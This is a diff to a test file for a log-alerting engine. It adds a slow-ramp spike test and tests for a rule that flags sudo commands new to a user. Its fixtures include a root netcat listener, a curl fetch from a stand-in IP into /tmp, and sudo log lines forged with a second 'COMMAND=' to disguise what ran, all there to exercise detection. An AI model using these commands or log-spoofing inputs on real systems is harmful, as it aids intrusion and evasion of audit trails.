@@ -179,6 +179,15 @@ describe('spike', () => {
     expect(opened[0]!.fields.day).toMatch(/^[▁-█]{24} \(usual per hour, Thu 00–23h\)$/);
   });
 
+  it('holds a flood growing by less than 1.5× every five minutes against the peak of the hour before', () => {
+    const at = MONDAY + 3 * DAY + 10 * HOUR;
+    const ramp = Array.from({ length: 10 }, (_, k) => burst(at + k * 5 * MINUTE, Math.round(10 * 1.45 ** k))).flat();
+    const opened = run(rule, [...steady(), ...ramp]);
+    expect(opened.map((o) => o.title)).toEqual([
+      expect.stringMatching(/^auth\.failure on auth: 2\d in 5 minutes at Thu 10:10, .*; lately at most 2\)$/),
+    ]);
+  });
+
   it('is silent while it learns, and under its floor', () => {
     expect(run(rule, [...steady().filter((l) => l.at < MONDAY + DAY), ...burst(MONDAY + DAY + HOUR, 60)])).toEqual([]);
     expect(run(rule, [...steady(), ...burst(MONDAY + 3 * DAY + 10 * HOUR, 17)])).toEqual([]);
@@ -254,5 +263,51 @@ describe('source-quiet', () => {
     expect(run(rule, [...cron(MONDAY, MONDAY + DAY), ...cron(MONDAY + DAY + HOUR, MONDAY + DAY + 2 * HOUR)])).toEqual(
       [],
     );
+  });
+});
+
+describe('new-sudo-command', () => {
+  const rule = '{ detect: new-sudo-command, source: auth, learn: { period: 2d } }';
+  const sudo = (at: number, logged: string, user = 'alice') => ({
+    at,
+    text: `${stamp(at)} web1 sudo[900]: ${user.padStart(8)} : ${logged}`,
+  });
+  const ran = (at: number, command: string, pwd = '/home/alice') =>
+    sudo(at, `TTY=pts/0 ; PWD=${pwd} ; USER=root ; COMMAND=${command}`);
+  const usual = () => Array.from({ length: 6 }, (_, d) => ran(MONDAY + d * 12 * HOUR, '/usr/bin/apt update'));
+
+  it('speaks of an executable new to the user, once it has learned for its period', () => {
+    const opened = run(rule, [...usual(), ran(MONDAY + 3 * DAY, '/usr/bin/nc -l 4444'), ran(MONDAY + DAY, '/bin/ls')]);
+    expect(opened.map((o) => o.title)).toEqual([
+      'alice ran /usr/bin/nc as root through sudo, a command new to them (known: /usr/bin/apt, /bin/ls)',
+    ]);
+  });
+
+  it('is not turned away by a second COMMAND= in the arguments or the directory: a new one among them is told', () => {
+    const at = MONDAY + 3 * DAY;
+    const opened = run(rule, [
+      ...usual(),
+      ran(at, '/bin/bash -c true ; USER=root ; COMMAND=/usr/bin/apt'),
+      ran(at + HOUR, '/bin/sh', '/tmp/x ; USER=nobody ; COMMAND=/usr/bin/apt'),
+      // Both known: whichever ran is usual.
+      ran(at + 2 * HOUR, '/usr/bin/apt ; COMMAND=/usr/bin/apt'),
+    ]);
+    expect(opened.map((o) => o.title)).toEqual([
+      'alice ran /bin/bash or /usr/bin/apt as root through sudo, a command new to them (known: /usr/bin/apt; the line names 2 commands, its directory or arguments hold " ; COMMAND=")',
+      'alice ran /usr/bin/apt or /bin/sh as nobody or root through sudo, a command new to them (known: /usr/bin/apt; the line names 2 commands, its directory or arguments hold " ; COMMAND=")',
+    ]);
+  });
+
+  it('reads the command from the rest of a line sudo split, and never a refusal', () => {
+    const at = MONDAY + 3 * DAY;
+    const opened = run(rule, [
+      ...usual(),
+      sudo(at, `TTY=pts/0 ; PWD=/tmp/${'a'.repeat(900)} ;`),
+      sudo(at, '(command continued) USER=root ; COMMAND=/usr/bin/curl -o /tmp/x http://198.51.100.7/x'),
+      sudo(at + HOUR, 'command not allowed ; TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/wget'),
+    ]);
+    expect(opened.map((o) => o.title)).toEqual([
+      'alice ran /usr/bin/curl as root through sudo, a command new to them (known: /usr/bin/apt)',
+    ]);
   });
 });
